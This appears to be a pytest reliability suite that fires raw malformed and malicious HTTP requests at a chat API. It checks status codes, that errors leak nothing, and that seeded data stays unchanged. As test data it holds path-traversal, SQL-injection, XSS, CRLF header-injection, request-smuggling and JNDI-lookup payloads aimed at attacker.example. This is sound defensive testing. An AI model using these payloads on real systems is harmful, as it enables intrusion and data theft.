"""Hostile input: each malformed, oversized or malicious request gets its documented status and changes nothing.

Every request is sent as exact bytes (``http_raw``), so nothing is normalised on the way: dot segments,
duplicated headers and invalid UTF-8 reach the server as written. Rejected requests all target one seeded
application; at the end, its rows in MySQL and its counters in Redis must be exactly as before. Inputs that
are valid but look dangerous (SQL, HTML, template and path fragments, odd Unicode) are accepted and must come
back byte for byte. ``tests/e2e/test_errors.py`` covers the everyday error codes; this suite goes further.
Statuses marked "gunicorn" are answered by the HTTP server before the application sees the request (an HTML
body, still no stack trace). Every row lands in docs/reliability.md.
"""

from __future__ import annotations

import json
import time
from dataclasses import dataclass, field

import pytest
import redis
from sqlalchemy import text

from chat_common.wire.keys import RedisKeys
from chat_devtools.http import wait_for
from tests.reliability import http_raw

JSON = ("Content-Type", "application/json")
FORM = ("Content-Type", "application/x-www-form-urlencoded")
ADMIN = ("Authorization", "Bearer {k}")
LEAKS = ("Traceback", "sqlalchemy", "pymysql", "SELECT ", "INSERT ", 'File "/', "redis.exceptions", "pika.")


@dataclass(frozen=True)
class Case:
    """One hostile request and the answer the API documents for it."""

    category: str
    what: str
    method: str
    target: str  # {t} token, {c} chat number, {m} message number of the seeded application
    expected: int
    body: bytes = b""
    headers: tuple[tuple[str, str], ...] = ()
    json_error: bool = True  # False where gunicorn answers before the app (HTML error page)
    content_length: bool = True
    raw: bytes | None = None  # the whole request, for malformed framing
    marks: tuple = field(default=())


def nested(depth: int) -> bytes:
    return b'{"name": ' + b"[" * depth + b"]" * depth + b"}"


CHATS = "/applications/{t}/chats"
MESSAGES = "/applications/{t}/chats/{c}/messages"
MESSAGE = "/applications/{t}/chats/{c}/messages/{m}"
SEARCH = "/applications/{t}/chats/{c}/messages/search"

# fmt: off
CASES = [
    # -- bodies: empty, huge, wrong shape ------------------------------------------------------------------------
    Case("body", "empty JSON body", "POST", CHATS, 422, b"", (JSON,)),
    Case("body", "empty form body", "POST", MESSAGES, 422, b"", (FORM,)),
    Case("body", "JSON null", "POST", CHATS, 400, b"null", (JSON,)),
    Case("body", "JSON array instead of object", "POST", MESSAGES, 400, b'["body"]', (JSON,)),
    Case("body", "JSON string instead of object", "PATCH", "/applications/{t}", 400, b'"name"', (JSON,)),
    Case("body", "truncated JSON", "POST", CHATS, 400, b'{"name": "abc', (JSON,)),
    Case("body", "JSON with trailing garbage", "POST", CHATS, 400, b'{"name": "a"} {"name": "b"}', (JSON,)),
    Case("body", "JSON nested 20 000 levels deep", "POST", CHATS, 400, nested(20_000), (JSON,)),
    Case("body", "name nested 100 objects deep", "POST", CHATS, 422, b'{"chat": ' * 100 + b"{}" + b"}" * 100, (JSON,)),
    Case("body", "body of 1 MiB (read and discarded)", "POST", MESSAGES, 413, b"body=" + b"x" * ((1 << 20) - 5),
         (FORM,)),
    Case("body", "body of 16 MiB (refused unread)", "POST", MESSAGES, 413, b'{"body": "' + b"x" * (16 << 20) + b'"}',
         (JSON,)),
    Case("body", "body one byte over MAX_REQUEST_BYTES", "POST", CHATS, 413, b"name=" + b"x" * 65532, (FORM,)),
    Case("body", "name of 256 characters", "POST", CHATS, 422, b"name=" + b"x" * 256, (FORM,)),
    Case("body", "message body of 10 001 characters", "POST", MESSAGES, 422, b"body=" + b"y" * 10_001, (FORM,)),
    Case("body", "whitespace-only name (Unicode spaces)", "POST", CHATS, 422, b'{"name": "\\u2003\\u00a0 "}',
         (JSON,)),
    Case("body", "chunked body (no Content-Length)", "POST", CHATS, 411, b'd\r\n{"name": "x"}\r\n0\r\n\r\n',
         (JSON, ("Transfer-Encoding", "chunked")), content_length=False),
    # -- encodings -----------------------------------------------------------------------------------------------
    Case("encoding", "invalid UTF-8 byte in JSON", "POST", CHATS, 400, b'{"name": "\xff"}', (JSON,)),
    Case("encoding", "overlong UTF-8 encoding of '/'", "POST", CHATS, 400, b'{"name": "\xc0\xaf"}', (JSON,)),
    Case("encoding", "UTF-16 JSON with BOM", "POST", CHATS, 400, '{"name": "x"}'.encode("utf-16"), (JSON,)),
    Case("encoding", "lone surrogate escape", "POST", MESSAGES, 400, b'{"body": "\\ud800"}', (JSON,)),
    Case("encoding", "invalid UTF-8 in a form value", "POST", CHATS, 400, b"name=%C3%28", (FORM,)),
    Case("encoding", "raw non-ASCII bytes in a form body", "POST", CHATS, 400, "name=é".encode(), (FORM,)),
    # -- NUL and control characters ------------------------------------------------------------------------------
    Case("nul", "raw NUL byte in JSON", "POST", CHATS, 400, b'{"name": "a\x00b"}', (JSON,)),
    Case("nul", "escaped NUL in a name", "POST", CHATS, 422, b'{"name": "a\\u0000b"}', (JSON,)),
    Case("unicode", "bidi override in a name", "POST", CHATS, 422, b'{"name": "invoice\\u202etxt.exe"}', (JSON,)),
    Case("unicode", "zero-width space in a body", "POST", MESSAGES, 422, b'{"body": "pay\\u200bpal"}', (JSON,)),
    Case("unicode", "byte-order mark in a form name", "POST", CHATS, 422, b"name=%EF%BB%BFx", (FORM,)),
    Case("nul", "escaped NUL in a message body", "POST", MESSAGES, 422, b'{"body": "a\\u0000b"}', (JSON,)),
    Case("nul", "%00 in a form value", "PATCH", "/applications/{t}/chats/{c}", 422, b"name=a%00b", (FORM,)),
    Case("nul", "line break in a name", "PATCH", "/applications/{t}", 422, b'{"name": "a\\r\\nX-Injected: 1"}',
         (JSON,)),
    Case("nul", "escape character in a message body", "PATCH", MESSAGE, 422, b'{"body": "\\u001b[31mred"}', (JSON,)),
    Case("nul", "NUL in a path token", "GET", "/applications/%00", 404),
    Case("nul", "NUL in a header value", "GET", "/applications/{t}", 400, headers=(("X-Note", "a\x00b"),),
         json_error=False),
    # -- numbers out of range ------------------------------------------------------------------------------------
    Case("numbers", "name is 1e400 (not a finite number)", "POST", CHATS, 400, b'{"name": 1e400}', (JSON,)),
    Case("numbers", "name is NaN", "POST", CHATS, 400, b'{"name": NaN}', (JSON,)),
    Case("numbers", "name is a 30-digit integer", "POST", CHATS, 422, b'{"name": 123456789012345678901234567890}',
         (JSON,)),
    Case("numbers", "body is a negative number", "POST", MESSAGES, 422, b'{"body": -1}', (JSON,)),
    Case("numbers", "chat number 0", "GET", "/applications/{t}/chats/0", 404),
    Case("numbers", "chat number -1", "GET", "/applications/{t}/chats/-1", 404),
    Case("numbers", "chat number 2^32 (above the column)", "GET", "/applications/{t}/chats/4294967296", 404),
    Case("numbers", "chat number of 30 digits", "POST", "/applications/{t}/chats/" + "9" * 30 + "/messages", 404,
         b'{"body": "x"}', (JSON,)),
    Case("numbers", "chat number 1e3", "GET", "/applications/{t}/chats/1e3", 404),
    Case("numbers", "chat number 0x1", "GET", "/applications/{t}/chats/0x1", 404),
    Case("numbers", "chat number with a space", "GET", "/applications/{t}/chats/%201", 404),
    Case("numbers", "message number -5", "PATCH", "/applications/{t}/chats/{c}/messages/-5", 404, b'{"body": "x"}',
         (JSON,)),
    Case("numbers", "page=0", "GET", CHATS + "?page=0", 400),
    Case("numbers", "page=-1", "GET", CHATS + "?page=-1", 400),
    Case("numbers", "page above 100 000", "GET", CHATS + "?page=100001", 400),
    Case("numbers", "page=1e2", "GET", CHATS + "?page=1e2", 400),
    Case("numbers", "per_page=0", "GET", MESSAGES + "?per_page=0", 400),
    Case("numbers", "per_page=101", "GET", MESSAGES + "?per_page=101", 400),
    Case("numbers", "per_page=99999999999999999999", "GET", CHATS + "?per_page=99999999999999999999", 400),
    # -- path traversal and injection in the path ----------------------------------------------------------------
    Case("path", "dot segments to /etc/passwd", "GET", "/applications/{t}/../../../etc/passwd", 404),
    Case("path", "encoded dot segments", "GET", "/applications/{t}/%2e%2e/%2e%2e/etc/passwd", 404),
    Case("path", "encoded slashes in the token", "GET", "/applications/..%2f..%2fetc%2fpasswd", 404),
    Case("path", "SQL in the token", "GET", "/applications/'%20OR%20'1'='1", 404),
    Case("path", "SQL in the token (UNION)", "DELETE",
         "/applications/x'%20UNION%20SELECT%20token%20FROM%20applications--", 404),
    Case("path", "non-ASCII token", "GET", "/applications/%C3%A9t%C3%A9/chats", 404),
    Case("path", "emoji token", "POST", "/applications/%F0%9F%98%80/chats", 404, b'{"name": "x"}', (JSON,)),
    Case("path", "token of 2 000 characters", "GET", "/applications/" + "A" * 2000, 404),
    Case("path", "wildcard token", "GET", "/applications/*/chats", 404),
    Case("path", "unknown route", "GET", "/admin", 404),
    Case("path", "chat number with a plus sign", "GET", "/applications/{t}/chats/%2B{c}", 404),
    Case("path", "chat number with a leading zero", "GET", "/applications/{t}/chats/0{c}", 404),
    Case("path", "chat number in full-width digits", "GET", "/applications/{t}/chats/%EF%BC%91", 404),
    Case("path", "method not allowed", "DELETE", "/applications/{t}/chats/{c}", 405),
    Case("path", "request target in absolute form for another host", "GET", "http://evil.example/applications/nope",
         404),
    # -- SQL and LIKE fragments where text is a query ------------------------------------------------------------
    Case("query", "search query missing", "GET", SEARCH, 400),
    Case("query", "search query blank", "GET", SEARCH + "?query=%20%20", 400),
    Case("query", "search query of 201 characters", "GET", SEARCH + "?query=" + "q" * 201, 400),
    # -- content types -------------------------------------------------------------------------------------------
    Case("content-type", "text/plain", "POST", CHATS, 415, b"name=x", (("Content-Type", "text/plain"),)),
    Case("content-type", "application/xml", "POST", MESSAGES, 415, b"<body>x</body>",
         (("Content-Type", "application/xml"),)),
    Case("content-type", "multipart/form-data", "POST", CHATS, 415,
         b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--b--\r\n',
         (("Content-Type", "multipart/form-data; boundary=b"),)),
    Case("content-type", "form body labelled as JSON", "POST", CHATS, 400, b"name=x", (JSON,)),
    Case("content-type", "JSON body labelled as a form", "POST", CHATS, 422, b'{"name": "x"}', (FORM,)),
    # -- duplicated parameters and headers -----------------------------------------------------------------------
    Case("duplicates", "duplicated per_page, the last invalid", "GET", MESSAGES + "?per_page=5&per_page=500", 400),
    Case("duplicates", "duplicated Content-Length", "POST", CHATS, 400, b'{"name": "x"}',
         (JSON, ("Content-Length", "13"), ("Content-Length", "12")), json_error=False, content_length=False),
    Case("duplicates", "Content-Length and Transfer-Encoding together", "POST", CHATS, 400, b"0\r\n\r\n",
         (JSON, ("Content-Length", "5"), ("Transfer-Encoding", "chunked")), json_error=False, content_length=False),
    Case("duplicates", "negative Content-Length", "POST", CHATS, 400, b"",
         (JSON, ("Content-Length", "-5")), json_error=False, content_length=False),
    # -- headers and framing -------------------------------------------------------------------------------------
    Case("headers", "Idempotency-Key of 129 characters", "POST", "/applications", 422, b'{"name": "x"}',
         (JSON, ADMIN, ("Idempotency-Key", "k" * 129))),
    Case("headers", "non-ASCII Idempotency-Key", "POST", "/applications", 422, b'{"name": "x"}',
         (JSON, ADMIN, ("Idempotency-Key", "\xe9t\xe9"))),
    Case("headers", "Idempotency-Key with a space inside", "POST", "/applications", 422, b'{"name": "x"}',
         (JSON, ADMIN, ("Idempotency-Key", "two words"))),
    Case("headers", "header of 20 000 bytes", "GET", "/applications/{t}", 431, headers=(("X-Big", "a" * 20_000),),
         json_error=False),
    Case("headers", "200 headers", "GET", "/applications/{t}", 431,
         headers=tuple((f"X-H{i}", "v") for i in range(200)), json_error=False),
    Case("headers", "request line of 10 000 bytes", "GET", CHATS + "?" + "a" * 10_000 + "=1", 414, json_error=False),
    Case("headers", "unknown HTTP method", "BREW", "/applications/{t}", 400, json_error=False),
    Case("headers", "HTTP/9.9", "GET", "/applications/{t}", 400, json_error=False,
         raw=b"GET /applications/{t} HTTP/9.9\r\nHost: x\r\nConnection: close\r\n\r\n"),
    Case("headers", "raw non-ASCII bytes in the request line", "GET", "/applications", 400, json_error=False,
         raw=b"GET /applications/\xff\xfe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
]
# fmt: on


@dataclass
class Victim:
    """The seeded application every rejected request aims at."""

    token: str
    chat: int
    message: int
    admin_key: str

    def fill(self, template: str) -> str:
        for placeholder, value in (
            ("{t}", self.token),
            ("{c}", self.chat),
            ("{m}", self.message),
            ("{k}", self.admin_key),
        ):
            template = template.replace(placeholder, str(value))
        return template


@pytest.fixture(scope="module")
def victim(admin_api, admin_key) -> Victim:
    token = admin_api.new_application("victim app")
    chat = admin_api.new_chat(token, "victim chat")
    message = admin_api.new_message(token, chat, "victim message")
    admin_api.wait_message(token, chat, message)
    return Victim(token, chat, message, admin_key)


def _state(engine, redis_url: str, prefix: str, token: str) -> dict:
    """Everything stored about one application: its rows and its numbering counters."""
    with engine.connect() as conn:
        app = conn.execute(
            text("SELECT id, name, chats_count FROM applications WHERE token_digest = SHA2(:t, 256)"), {"t": token}
        ).one()
        chats = conn.execute(
            text("SELECT number, name, version FROM chats WHERE application_id = :a ORDER BY number"), {"a": app.id}
        ).all()
        messages = conn.execute(
            text(
                "SELECT c.number, m.number, m.body, m.version FROM messages m JOIN chats c ON c.id = m.chat_id "
                "WHERE c.application_id = :a ORDER BY c.number, m.number"
            ),
            {"a": app.id},
        ).all()
    client = redis.Redis.from_url(redis_url)
    try:
        counters = {k.decode(): v.decode() for k, v in client.hgetall(RedisKeys(prefix).numbers(app.id)).items()}
    finally:
        client.close()
    return {
        "application": tuple(app),
        "chats": [tuple(r) for r in chats],
        "messages": [tuple(r) for r in messages],
        "counters": counters,
    }


@pytest.fixture(scope="module")
def victim_before(victim, reliability_engine, reliability_namespace) -> dict:
    s = reliability_namespace.settings
    return _state(reliability_engine, s.redis_url, s.redis_key_prefix, victim.token)


def _send(base_url: str, victim: Victim, case: Case) -> http_raw.RawResponse:
    if case.raw is not None:
        return http_raw.send(base_url, victim.fill(case.raw.decode("latin-1")).encode("latin-1"))
    return http_raw.request(
        base_url,
        case.method,
        victim.fill(case.target),
        headers=[(name, victim.fill(value)) for name, value in case.headers],
        body=case.body,
        content_length=case.content_length,
    )


@pytest.mark.parametrize("case", CASES, ids=[f"{c.category}: {c.what}" for c in CASES])
def test_rejected_with_documented_status(case, victim, victim_before, reliability_system, hostile_results):
    started = time.perf_counter()
    resp = _send(reliability_system.base_url, victim, case)
    row = hostile_results.add(
        category=case.category,
        input=case.what,
        request=f"{case.method} {case.target}"[:80],
        expected=case.expected,
        got=resp.status,
        answered_by="app" if case.json_error else "gunicorn",
        seconds=round(time.perf_counter() - started, 3),
        outcome="fail",
    )
    assert resp.status == case.expected, resp.text[:300]
    for leak in LEAKS:
        assert leak not in resp.text, f"error body leaks {leak!r}: {resp.text[:300]}"
    if case.json_error:
        assert resp.headers.get("content-type", "").startswith("application/json"), resp.headers
        body = json.loads(resp.body)
        assert set(body) == {"error"} and isinstance(body["error"], str) and body["error"]
        assert resp.headers.get("x-content-type-options") == "nosniff"
    row["outcome"] = "pass"


# Valid text that looks dangerous: stored and returned exactly, never interpreted.
VERBATIM = [
    ("sql", "'; DROP TABLE messages; --"),
    ("sql", '" OR "1"="1'),
    ("sql", "1; SELECT SLEEP(5); --"),
    ("sql", "\\'; DELETE FROM applications WHERE '1'='1"),
    ("html", "<script>alert(document.cookie)</script>"),
    ("html", '<img src=x onerror="alert(1)">'),
    ("template", "${jndi:ldap://attacker.example/a} {{7*7}} <%= 7*7 %> %s%n"),
    ("path", "../../../../etc/passwd"),
    ("path", "C:\\Windows\\system32\\config"),
    ("unicode", "RTL marks \u200f\u0645\u200e and joiners \u0645\u06cc\u200c\u062e \U0001f469\u200d\U0001f467"),
    ("unicode", "emoji 👩‍👩‍👧‍👦 🏳️‍🌈 and 4-byte 𝄞 𠜎"),
    ("unicode", "combining e\u0301\u0301\u0301 and fullwidth \uff33\uff25\uff2c\uff25\uff23\uff34"),
    ("like", "100% sure_thing \\ backslash"),
]


@pytest.mark.parametrize(("category", "value"), VERBATIM, ids=[f"{c}: {v[:30]}" for c, v in VERBATIM])
def test_dangerous_looking_text_is_stored_verbatim(category, value, admin_api, hostile_results):
    row = hostile_results.add(
        category=f"verbatim/{category}",
        input=value,
        request="POST chats + messages",
        expected=201,
        got=None,
        answered_by="app",
        outcome="fail",
    )
    token = admin_api.new_application(value)
    started = time.perf_counter()
    chat_resp = admin_api.post(f"/applications/{token}/chats", json={"name": value})
    row["seconds"] = round(time.perf_counter() - started, 3)
    row["got"] = chat_resp.status_code
    assert chat_resp.status_code == 201, chat_resp.text
    chat = chat_resp.json()["chat_number"]
    number = admin_api.new_message(token, chat, f"{value}\n{value}")
    assert admin_api.get(f"/applications/{token}").json()["name"] == value
    assert admin_api.wait_chat(token, chat)["name"] == value
    message = admin_api.wait_message(token, chat, number)
    assert message["body"] == f"{value}\n{value}"
    assert (
        admin_api.get(f"/applications/{token}/chats/{chat}/messages")
        .headers["Content-Type"]
        .startswith("application/json")
    )
    row["outcome"] = "pass"


def test_like_wildcards_in_search_match_literally(admin_api, hostile_results):
    token = admin_api.new_application("wildcards")
    chat = admin_api.new_chat(token)
    bodies = ["plain words", "100% sure", "snake_case name", "back\\slash"]
    numbers = {admin_api.new_message(token, chat, b): b for b in bodies}
    for n in numbers:
        admin_api.wait_message(token, chat, n)
    for query, expected in (
        ("%", {"100% sure"}),
        ("_", {"snake_case name"}),
        ("\\", {"back\\slash"}),
        ("' OR 1=1 --", set()),
    ):
        resp = admin_api.get(f"/applications/{token}/chats/{chat}/messages/search", params={"query": query})
        hostile_results.add(
            category="query",
            input=f"search for {query!r}",
            request="GET …/messages/search",
            expected=200,
            got=resp.status_code,
            answered_by="app",
            outcome="pass" if resp.status_code == 200 else "fail",
        )
        assert resp.status_code == 200, resp.text
        assert {h["body"] for h in resp.json()} == expected, query


def test_duplicated_fields_last_wins_and_two_forms_are_refused(admin_api, hostile_results):
    token = admin_api.new_application("duplicates")
    sent = [
        ("duplicated JSON key: last wins", b'{"name": "first", "name": "last"}', JSON, 201, "last"),
        ("duplicated form key: last wins", b"name=first&name=last", FORM, 201, "last"),
        # Flat and nested together is ambiguous (which one did the client mean?): refused, as the OpenAPI oneOf says.
        ("nested and flat together (JSON)", b'{"name": "flat", "chat": {"name": "nested"}}', JSON, 422, None),
        ("bracketed and flat together (form)", b"name=flat&chat%5Bname%5D=bracketed", FORM, 422, None),
        ("over-long flat beside a valid nested one", b"chat%5Bname%5D=ok&name=" + b"x" * 262, FORM, 422, None),
    ]
    for what, body, content_type, status, expected in sent:
        resp = admin_api.post(f"/applications/{token}/chats", data=body, headers={content_type[0]: content_type[1]})
        hostile_results.add(
            category="duplicates",
            input=what,
            request="POST chats",
            expected=status,
            got=resp.status_code,
            answered_by="app",
            outcome="pass" if resp.status_code == status else "fail",
        )
        assert resp.status_code == status, resp.text
        if expected is not None:
            assert admin_api.wait_chat(token, resp.json()["chat_number"])["name"] == expected, what
        else:
            assert "more than one form" in resp.json()["error"]
    links = admin_api.get(f"/applications/{token}/chats?page=1&page=2&per_page=1").headers["Link"]
    assert 'rel="prev"' in links or "rel=prev" in links  # page=2 (the last) was used


def test_nothing_rejected_changed_the_victim(
    victim, victim_before, admin_api, reliability_engine, reliability_namespace, hostile_results
):
    """Runs after every rejected request: the victim's rows and counters are exactly as seeded."""
    # Writers consume in queue order: once a later marker is written, anything queued before it was too.
    marker_app = admin_api.new_application("marker")
    marker_chat = admin_api.new_chat(marker_app)
    admin_api.wait_message(marker_app, marker_chat, admin_api.new_message(marker_app, marker_chat, "marker"))
    time.sleep(0.3)
    s = reliability_namespace.settings
    after = wait_for(
        lambda: _state(reliability_engine, s.redis_url, s.redis_key_prefix, victim.token), what="victim state"
    )
    hostile_results.meta["victim_untouched"] = after == victim_before
    hostile_results.meta["victim_state"] = {
        k: len(v) if isinstance(v, list) else v for k, v in after.items() if k != "application"
    }
    assert after == victim_before
